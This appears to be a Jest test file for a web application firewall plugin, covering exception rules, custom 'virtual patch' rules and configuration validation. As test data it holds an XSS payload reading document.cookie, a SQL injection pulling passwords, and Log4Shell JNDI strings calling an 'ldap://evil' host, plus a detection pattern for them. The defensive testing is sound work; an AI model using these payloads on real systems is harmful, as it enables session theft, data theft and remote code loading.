import { inspect } from '../../../lib';
import type { HttpRequest } from '../../../lib/types';
import { pluginSchemaProblem } from '../../../gateway/config/metaschema';
import { processAutoFields, validateRecord, type RecordSchema } from '../../../gateway/config/kong-schema';
import { parseRules, rulesConfigErrors } from './parse';
import { RuleSet } from './rule-set';
import { RULES_FIELDS } from './schema-fields';

const post = (path: string, body: unknown, query = ''): HttpRequest => ({
  method: 'POST',
  path,
  query,
  headers: { 'content-type': 'application/json', host: 'api.example.com' },
  body: Buffer.from(JSON.stringify(body)),
});

const XSS = '<img src=x onerror=alert(document.cookie)>';
const SQLI = "1' UNION SELECT password FROM users--";

describe('exceptions', () => {
  const { ruleSet, warnings } = RuleSet.fromConfig({
    exceptions: [
      { id: 'cms-comments-html', method: 'POST', path: '/api/posts/*', point: 'body.json.*.comment', attack_types: ['xss'] },
      { id: 'search-anything', path: '/search', point: 'query.q' },
    ],
  });

  it('compile without warnings', () => expect(warnings).toEqual([]));

  it('silence a detector only at their point, path, method and type', () => {
    const req = post('/api/posts/42', { reply: { comment: XSS }, title: XSS, note: { comment: SQLI } });
    const before = inspect(req);
    expect(before.findings.map((f) => f.point)).toEqual(expect.arrayContaining(['body.json.reply.comment', 'body.json.title', 'body.json.note.comment']));
    const { verdict, silenced } = ruleSet.exceptVerdict(req, before);
    expect(silenced).toEqual([{ rule: 'exception:cms-comments-html', point: 'body.json.reply.comment', type: 'xss' }]);
    const left = verdict.findings.map((f) => `${f.type}@${f.point}`);
    expect(left).toContain('xss@body.json.title');
    expect(left).toContain('sqli@body.json.note.comment');
    expect(verdict.attack).toBe(true);
  });

  it('do not apply on another path or method', () => {
    const req = post('/api/users/42', { reply: { comment: XSS } });
    expect(ruleSet.exceptVerdict(req, inspect(req)).silenced).toEqual([]);
    const put = { ...post('/api/posts/42', { reply: { comment: XSS } }), method: 'PUT' };
    expect(ruleSet.exceptVerdict(put, inspect(put)).silenced).toEqual([]);
  });

  it('recompute attack and types when everything is silenced; cover peeled encodings under the point', () => {
    const q = `q=${encodeURIComponent(SQLI)}`;
    const req: HttpRequest = { method: 'GET', path: '/search', query: q, headers: {} };
    const before = inspect(req);
    expect(before.attack).toBe(true);
    const { verdict } = ruleSet.exceptVerdict(req, before);
    expect(verdict).toMatchObject({ attack: false, types: [], findings: [] });
  });

  it('silence OpenAPI violations only for classes they name', () => {
    const { ruleSet: rs } = RuleSet.fromConfig({ exceptions: [{ id: 'legacy-param', path: '/orders', point: 'query.legacy*', attack_types: ['unknown_parameter'] }, { id: 'all', path: '/**', point: '**' }] });
    const vs = [{ class: 'unknown_parameter', point: 'query.legacy_sort' }, { class: 'invalid_parameter', point: 'query.legacy_x' }, { class: 'unknown_parameter', point: 'query.other' }];
    const { kept, silenced } = rs.exceptViolations({ method: 'GET', path: '/orders' }, vs);
    expect(kept.map((v) => v.point)).toEqual(['query.legacy_x', 'query.other']);
    expect(silenced).toEqual([{ rule: 'exception:legacy-param', point: 'query.legacy_sort', type: 'unknown_parameter' }]);
  });
});

describe('custom rules (virtual patches)', () => {
  const { ruleSet } = RuleSet.fromConfig({
    custom_rules: [
      { id: 'cve-2099-0001', path: '/api/**', point: 'body.json.**.template', match: 're2', value: '\\$\\{\\s*jndi\\s*:', action: 'block', attack_type: 'log4shell' },
      { id: 'legacy-debug', point: 'query.*', match: 'equals', value: 'DEBUG', action: 'report' },
      { id: 'marker', method: 'POST', point: 'header.x-*', match: 'contains', value: 'exploit-kit', ignore_case: false },
    ],
  });

  it('a virtual patch matches a crafted payload at its point, with the rule id', () => {
    const req = post('/api/render', { page: { blocks: [{ template: 'Hello ${ jNdI:ldap://evil/a}' }] } });
    expect(ruleSet.match(req)).toEqual([{ rule: 'rule:cve-2099-0001', action: 'block', type: 'log4shell', point: 'body.json.page.blocks.0.template', excerpt: 'Hello ${ jNdI:ldap://evil/a}' }]);
  });

  it('does not match elsewhere: other point, other path, benign value', () => {
    expect(ruleSet.match(post('/api/render', { page: { title: '${jndi:ldap://x}' } }))).toEqual([]);
    expect(ruleSet.match(post('/public/render', { template: '${jndi:ldap://x}' }))).toEqual([]);
    expect(ruleSet.match(post('/api/render', { template: 'Hello ${name}' }))).toEqual([]);
  });

  it('equals / contains with and without case folding; reuses points it is given', () => {
    const get: HttpRequest = { method: 'GET', path: '/x', query: 'mode=debug', headers: {} };
    expect(ruleSet.match(get)).toMatchObject([{ rule: 'rule:legacy-debug', action: 'report', type: 'virtual_patch', point: 'query.mode' }]);
    expect(ruleSet.match({ ...get, query: 'mode=debugger' })).toEqual([]);
    const hdr: HttpRequest = { ...post('/x', {}), headers: { 'x-tool': 'Exploit-Kit 3' } };
    expect(ruleSet.match(hdr)).toEqual([]);
    expect(ruleSet.match({ ...hdr, headers: { 'x-tool': 'exploit-kit 3' } })).toMatchObject([{ rule: 'rule:marker' }]);
    const points = [{ path: 'query.mode', value: 'debug', source: 'query' as const, isKey: false, encodings: [], truncated: false }];
    expect(ruleSet.match({ ...get, query: '' }, points)).toMatchObject([{ point: 'query.mode' }]);
  });
});

describe('configuration', () => {
  it('parse errors: duplicate ids, bad RE2, bad globs; broken entries are skipped', () => {
    const parsed = parseRules({
      exceptions: [{ id: 'a', point: 'query.q' }, { id: 'a', point: 'query.x' }, { id: 'b', point: 'query.**x' }],
      custom_rules: [{ id: 'c', point: 'query.q', match: 're2', value: '(a+)+\\1' }, { id: 'd', point: 'query.q', value: 'x' }],
    });
    expect(parsed.exceptions.map((e) => e.id)).toEqual(['a']);
    expect(parsed.rules.map((r) => r.id)).toEqual(['d']);
    expect(rulesConfigErrors({ exceptions: [{ id: 'a', point: 'query.q' }, { id: 'a', point: 'q' }], custom_rules: [{ id: 'c', point: 'q', match: 're2', value: '(?<=a)b' }] })).toEqual({
      exceptions: [null, { id: expect.stringMatching(/duplicate id/) }],
      custom_rules: [{ value: expect.stringMatching(/not a valid RE2/) }],
    });
    expect(rulesConfigErrors({ exceptions: [], custom_rules: [] })).toBeNull();
  });

  it('RULES_FIELDS pass the metaschema and validate as the Admin API would', () => {
    const schema = { name: 'api-waf', fields: [{ config: { type: 'record', fields: RULES_FIELDS } }] };
    expect(pluginSchemaProblem(schema as never)).toBeFalsy();
    const record = { fields: RULES_FIELDS } as unknown as RecordSchema;
    const check = (input: Record<string, unknown>) => validateRecord(record, processAutoFields(record, input, 'insert'));
    expect(processAutoFields(record, { custom_rules: [{ id: 'x', point: 'query.q', value: 'v' }] }, 'insert')).toEqual({
      exceptions: [],
      custom_rules: [{ id: 'x', point: 'query.q', value: 'v', method: null, path: '/**', match: 'contains', ignore_case: true, action: 'block', attack_type: 'virtual_patch' }],
    });
    expect(check({ exceptions: [{ id: 'e1', path: '/api/**', point: 'body.json.*.comment', attack_types: ['xss', 'unknown_parameter'] }] })).toBeNull();
    expect(check({ exceptions: [{ id: 'e1', point: 'q', attack_types: ['nonsense'] }] })).toBeTruthy();
    expect(check({ exceptions: [{ id: 'bad id!', point: 'q' }] })).toBeTruthy();
    expect(check({ custom_rules: [{ id: 'r', point: 'q', value: 'v', match: 'regex' }] })).toBeTruthy();
    expect(check({ custom_rules: [{ id: 'r', point: 'q' }] })).toBeTruthy();
  });
});
